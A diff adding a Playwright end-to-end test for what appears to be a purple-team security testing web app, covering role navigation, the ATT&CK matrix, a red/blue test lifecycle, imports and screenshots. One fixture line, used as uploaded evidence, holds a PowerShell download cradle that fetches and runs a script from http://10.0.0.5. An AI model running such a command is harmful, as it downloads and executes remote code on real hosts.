@@ -1,0 +1,294 @@
+// End-to-end tests of the web app in a real Chromium (Debian's /usr/bin/chromium,
+// driven by playwright-core) against a real `aegis serve` with imported upstream data.
+// Started by the Go test web/e2e_test.go, which builds the server, imports the data,
+// creates one user per role and passes everything through the environment:
+//   AEGIS_URL, E2E_PASSWORD (every e2e_<role> user's first password), E2E_UPSTREAM,
+//   E2E_SCREENSHOTS (folder), E2E_REPORT (JSON file for measured figures).
+// Any console error (a CSP violation included) or failed check exits non-zero.
+import { chromium } from "playwright-core";
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+
+const BASE = process.env.AEGIS_URL ?? "http://127.0.0.1:18080";
+const FIRST_PASSWORD = process.env.E2E_PASSWORD ?? "e2e-password-123";
+const NEW_PASSWORD = "changed-e2e-password-456";
+const UPSTREAM = process.env.E2E_UPSTREAM ?? "/work/shared/upstream";
+const SHOTS = process.env.E2E_SCREENSHOTS ?? "";
+const REPORT = process.env.E2E_REPORT ?? "";
+const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
+
+// The seed design's navigation table, written out independently of the app's nav.ts.
+const LEADS = ["Dashboard", "Executive Dashboard", "ATT&CK Matrix", "Tests", "Campaigns", "Threat Actors", "Compliance", "Comparison", "Reports"];
+const TECHS = ["Dashboard", "ATT&CK Matrix", "Tests", "Campaigns", "Threat Actors", "Compliance", "Reports"];
+const NAV = { admin: [...LEADS, "System"], red_lead: LEADS, blue_lead: LEADS, red_tech: TECHS, blue_tech: TECHS, viewer: TECHS };
+
+const report = { checks: [] };
+const errors = [];
+let step = "start";
+
+function check(cond, what) {
+  if (!cond) throw new Error(`check failed (${step}): ${what}`);
+  report.checks.push(what);
+}
+
+const browser = await chromium.launch({
+  executablePath: CHROMIUM,
+  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-dev-shm-usage"],
+});
+
+async function newPage(theme = "dark") {
+  const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: theme, acceptDownloads: true });
+  const page = await ctx.newPage();
+  // Answers of 4xx are the app's business (a signed-out /auth/me, a wrong password);
+  // any other console error, a CSP violation above all, fails the run.
+  page.on("console", (m) => m.type() === "error" && !/Failed to load resource: .* status of 4\d\d/.test(m.text()) && errors.push(`[${step}] console: ${m.text()}`));
+  page.on("pageerror", (e) => errors.push(`[${step}] page error: ${e.message}`));
+  page.setDefaultTimeout(20_000);
+  return page;
+}
+
+async function shot(page, name) {
+  if (!SHOTS) return;
+  await page.waitForLoadState("networkidle");
+  await page.waitForTimeout(250); // let charts finish their entry animation frame
+  await page.screenshot({ path: join(SHOTS, `${name}.png`) });
+}
+
+const passwords = {};
+async function signIn(page, role) {
+  const user = `e2e_${role}`;
+  await page.goto(BASE + "/login");
+  await page.getByLabel("Username").fill(user);
+  await page.getByLabel("Password").fill(passwords[role] ?? FIRST_PASSWORD);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  const forced = page.getByRole("heading", { name: "Choose a new password" });
+  const nav = page.getByRole("navigation", { name: "Main" });
+  await forced.or(nav).waitFor();
+  if (await forced.isVisible()) {
+    // Accounts made by an administrator must change their password first.
+    await page.getByLabel("Current password").fill(passwords[role] ?? FIRST_PASSWORD);
+    await page.locator("input[name=new_password]").fill(NEW_PASSWORD);
+    await page.getByLabel("New password again").fill(NEW_PASSWORD);
+    await page.getByRole("button", { name: "Change password" }).click();
+    await nav.waitFor();
+    passwords[role] = NEW_PASSWORD;
+    report.forcedChange = (report.forcedChange ?? 0) + 1;
+  }
+}
+
+async function signOut(page) {
+  await page.getByRole("button", { name: "Account" }).click();
+  await page.getByRole("button", { name: "Sign out" }).click();
+  await page.getByRole("heading", { name: "Sign in" }).waitFor();
+}
+
+async function navSections(page) {
+  const nav = page.getByRole("navigation", { name: "Main" });
+  // Top-level entries are links or sub-menu headings, in order.
+  return nav.locator(":scope > ul > li").evaluateAll((lis) =>
+    lis.map((li) => (li.querySelector(":scope > div") ?? li.querySelector(":scope > a"))?.textContent?.trim() ?? ""),
+  );
+}
+
+try {
+  if (SHOTS) mkdirSync(SHOTS, { recursive: true });
+
+  // --- 1. Every role signs in (changing the administrator-set password) and sees its navigation.
+  step = "login page";
+  {
+    const page = await newPage();
+    await page.goto(BASE + "/matrix");
+    await page.getByRole("heading", { name: "Sign in" }).waitFor();
+    check(page.url().endsWith("/login"), "a signed-out visit is sent to /login");
+    await page.getByLabel("Username").fill("e2e_viewer");
+    await page.getByLabel("Password").fill("wrong-password-000");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    const alert = page.getByRole("alert");
+    await alert.waitFor();
+    check((await alert.textContent()).length > 5, "a failed sign-in shows the problem document's message");
+    await page.getByLabel("Password").fill("");
+    await page.getByLabel("Username").fill("");
+    await shot(page, "login");
+    await page.context().close();
+  }
+  for (const role of Object.keys(NAV)) {
+    step = `navigation ${role}`;
+    const page = await newPage();
+    await signIn(page, role);
+    const got = await navSections(page);
+    check(JSON.stringify(got) === JSON.stringify(NAV[role]), `${role} sees exactly ${NAV[role].join(", ")} (got ${got.join(", ")})`);
+    await signOut(page);
+    await page.context().close();
+  }
+  if (process.env.E2E_FRESH) check(report.forcedChange === 6, "each new account had to change its password first");
+
+  // --- 2. The matrix: the full Enterprise matrix, timed from navigation to clickable cells.
+  step = "matrix";
+  const admin = await newPage();
+  await signIn(admin, "admin");
+  const timings = [];
+  for (let i = 0; i < 3; i++) {
+    await admin.goto(BASE + "/");
+    await admin.getByRole("heading", { name: /Welcome back/ }).waitFor();
+    await admin.evaluate(() => window.localStorage.setItem("probe", "1"));
+    const t0 = await admin.evaluate(() => performance.now());
+    await admin.getByRole("link", { name: "ATT&CK Matrix" }).click();
+    await admin.locator('[data-testid=matrix] [data-technique]').first().waitFor();
+    await admin.locator('[data-technique="T1059"] button').first().waitFor({ state: "visible" });
+    const t1 = await admin.evaluate(() => performance.now());
+    timings.push(Math.round(t1 - t0));
+  }
+  const cells = await admin.locator("[data-testid=matrix] [data-technique]").count();
+  check(cells > 150, `the matrix shows the Enterprise techniques (${cells} cells)`);
+  const t2 = await admin.evaluate(() => performance.now());
+  await admin.getByRole("button", { name: "Expand all" }).click();
+  await admin.getByRole("button", { name: "Collapse all" }).waitFor();
+  const expanded = await admin.locator("[data-testid=matrix] [data-technique]").count();
+  const t3 = await admin.evaluate(() => performance.now());
+  check(expanded > cells + 300, `expanding shows the sub-techniques (${expanded} cells)`);
+  report.matrix = { cells, expandedCells: expanded, openMs: timings, openMedianMs: timings.sort((a, b) => a - b)[1], expandAllMs: Math.round(t3 - t2) };
+  await shot(admin, "matrix-expanded");
+  await admin.getByRole("button", { name: "Collapse all" }).click();
+  await shot(admin, "matrix");
+  await admin.locator('[data-technique="T1059"] button').first().click();
+  await admin.getByRole("heading", { name: /Command and Scripting Interpreter/ }).waitFor();
+  check(admin.url().endsWith("/techniques/T1059"), "a matrix cell opens its technique");
+  await admin.getByRole("heading", { name: /Test templates \(\d+\)/ }).waitFor();
+  await shot(admin, "technique");
+
+  // --- 3. One test from draft to validated, evidence on both sides, two lead accounts.
+  step = "test lifecycle: create";
+  const red = await newPage();
+  await signIn(red, "red_tech");
+  await red.goto(BASE + "/tests/new?technique=T1059.001");
+  const tplSelect = red.getByLabel("Template (optional)");
+  await red.waitForFunction(() => document.querySelectorAll("select option").length > 3);
+  const firstTemplate = await tplSelect.locator("option").nth(1).getAttribute("value");
+  await tplSelect.selectOption(firstTemplate);
+  await red.getByLabel("Title").fill("E2E PowerShell download cradle");
+  await red.getByRole("button", { name: "Create draft" }).click();
+  await red.getByRole("button", { name: "Start execution" }).waitFor();
+  const testUrl = red.url();
+  check(/\/tests\/[0-9a-f-]{36}$/.test(testUrl), "creating a test opens it");
+  check(!(await red.getByRole("button", { name: "Submit for review" }).count()), "a red technician is not offered the blue team's action");
+  await red.getByRole("button", { name: "Start execution" }).click();
+  step = "test lifecycle: red";
+  await red.getByRole("button", { name: "Hand to blue" }).waitFor();
+  await red.getByRole("button", { name: "Now" }).click();
+  await red.getByLabel("Attack outcome").selectOption("succeeded");
+  await red.getByLabel("Red notes").fill("Ran from a standard user session.");
+  await red.locator("form", { has: red.getByLabel("Attack outcome") }).getByRole("button", { name: "Save" }).click();
+  await red.getByText("version 3").first().waitFor();
+  await red.getByLabel("Evidence file").setInputFiles({ name: "red-console.txt", mimeType: "text/plain", buffer: Buffer.from("PS> IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\n") });
+  await red.getByRole("button", { name: "Upload" }).click();
+  await red.getByRole("link", { name: "red-console.txt" }).first().waitFor();
+  await red.getByRole("button", { name: "Verify" }).click();
+  await red.getByText("intact").waitFor();
+  check(true, "red evidence uploaded and verified intact");
+  await red.getByRole("button", { name: "Hand to blue" }).click();
+  await red.getByText("Blue evaluating", { exact: true }).first().waitFor();
+  await red.context().close();
+
+  step = "test lifecycle: blue";
+  const blue = await newPage();
+  await signIn(blue, "blue_tech");
+  await blue.goto(testUrl);
+  await blue.getByRole("button", { name: "Submit for review" }).waitFor();
+  check(!(await blue.getByRole("link", { name: "red-console.txt" }).count()), "a blue technician does not see the red team's evidence");
+  await blue.getByLabel("Prevented").selectOption("no");
+  await blue.getByLabel("Alerted").selectOption("yes");
+  await blue.getByLabel("Logged").selectOption("yes");
+  await blue.getByLabel("Blue notes").fill("EDR alert fired on the download cradle.");
+  await blue.locator("form", { has: blue.getByLabel("Prevented") }).getByRole("button", { name: "Save" }).click();
+  await blue.getByText("Saved").first().waitFor();
+  await blue.getByLabel("Evidence file").setInputFiles({ name: "edr-alert.json", mimeType: "application/json", buffer: Buffer.from('{"alert":"Suspicious PowerShell download","host":"WS-12"}\n') });
+  await blue.getByRole("button", { name: "Upload" }).click();
+  await blue.getByRole("link", { name: "edr-alert.json" }).first().waitFor();
+  await blue.getByRole("button", { name: "Submit for review" }).click();
+  await blue.getByText("In review", { exact: true }).first().waitFor();
+  check(!(await blue.getByRole("button", { name: "Approve" }).count()), "a blue technician cannot vote");
+  await blue.context().close();
+
+  step = "test lifecycle: votes";
+  for (const lead of ["red_lead", "blue_lead"]) {
+    const p = await newPage();
+    await signIn(p, lead);
+    await p.goto(testUrl);
+    await p.getByRole("button", { name: "Approve" }).click();
+    await p.getByText(/^approved ·/).first().waitFor();
+    if (lead === "red_lead") {
+      await p.getByText("pending").waitFor();
+      check(await p.getByText("In review", { exact: true }).first().isVisible(), "one approval keeps the test in review");
+    } else {
+      await p.getByText("Validated", { exact: true }).first().waitFor();
+      check(true, "the second lead's approval validates the test");
+      await shot(p, "test-detail");
+    }
+    await p.context().close();
+  }
+
+  // --- 4. An import started from the admin page, watched until it finishes.
+  step = "import";
+  await admin.goto(BASE + "/system/imports");
+  await admin.getByLabel("Plugin").selectOption("sigma");
+  await admin.getByLabel(/^Source/).fill(`${UPSTREAM}/sigma`);
+  await admin.getByRole("button", { name: "Start" }).click();
+  const live = admin.getByTestId("live-run");
+  await live.waitFor();
+  await live.getByText("succeeded").waitFor({ timeout: 180_000 });
+  const summary = await live.textContent();
+  check(/[1-9][\d,]* added/.test(summary), `the sigma import finished with rules added (${summary.slice(0, 80)})`);
+  await shot(admin, "imports");
+
+  // --- 5. The other main pages, for the screenshots and a last look for errors.
+  step = "pages";
+  await admin.goto(BASE + "/catalog/rules");
+  await admin.getByRole("table", { name: "Detection rules" }).getByRole("row").nth(3).waitFor();
+  await admin.getByRole("table", { name: "Detection rules" }).getByRole("row").nth(2).click();
+  await admin.getByRole("complementary", { name: "Details" }).getByText("Rule").first().waitFor();
+  await shot(admin, "detection-rules");
+  await admin.goto(BASE + "/catalog/templates");
+  await admin.getByRole("table", { name: "Test templates" }).getByRole("row").nth(3).waitFor();
+  await admin.getByLabel("Search").fill("mimikatz");
+  await admin.waitForTimeout(600);
+  await admin.getByRole("table", { name: "Test templates" }).getByRole("row").nth(1).click();
+  await admin.getByRole("complementary", { name: "Details" }).getByText("Command").first().waitFor();
+  await shot(admin, "templates");
+  await admin.goto(BASE + "/tests");
+  await admin.getByRole("link", { name: "E2E PowerShell download cradle" }).waitFor();
+  await shot(admin, "tests");
+  await admin.goto(BASE + "/executive");
+  await admin.getByText("Coverage by tactic").waitFor();
+  await admin.locator(".recharts-bar-rectangle").first().waitFor();
+  await shot(admin, "executive");
+  await admin.goto(BASE + "/system/users");
+  await admin.getByText("e2e_blue_lead").waitFor();
+  await shot(admin, "users");
+  await admin.goto(BASE + "/system/audit");
+  await admin.getByRole("button", { name: "Verify chain" }).click();
+  await admin.getByText(/Chain intact/).waitFor();
+  check(true, "the audit chain verifies from the admin page");
+  await shot(admin, "audit");
+  await admin.goto(BASE + "/");
+  await admin.locator(".recharts-area-curve").first().waitFor();
+  await shot(admin, "dashboard");
+  // Light theme.
+  await admin.getByRole("button", { name: "Switch to light theme" }).click();
+  check(await admin.evaluate(() => !document.documentElement.classList.contains("dark")), "the theme switch turns the light theme on");
+  await admin.goto(BASE + "/matrix");
+  await admin.locator("[data-testid=matrix] [data-technique]").first().waitFor();
+  await shot(admin, "matrix-light");
+  await admin.goto(BASE + "/");
+  await admin.locator(".recharts-area-curve").first().waitFor();
+  await shot(admin, "dashboard-light");
+
+  check(errors.length === 0, `no console errors (${errors.join(" | ")})`);
+} catch (e) {
+  console.error(`e2e: ${e.message}`);
+  for (const err of errors) console.error(err);
+  process.exitCode = 1;
+} finally {
+  await browser.close();
+  if (REPORT) writeFileSync(REPORT, JSON.stringify(report, null, 2));
+  console.log(`e2e: ${report.checks.length} checks passed${report.matrix ? `; matrix ${JSON.stringify(report.matrix)}` : ""}`);
+}
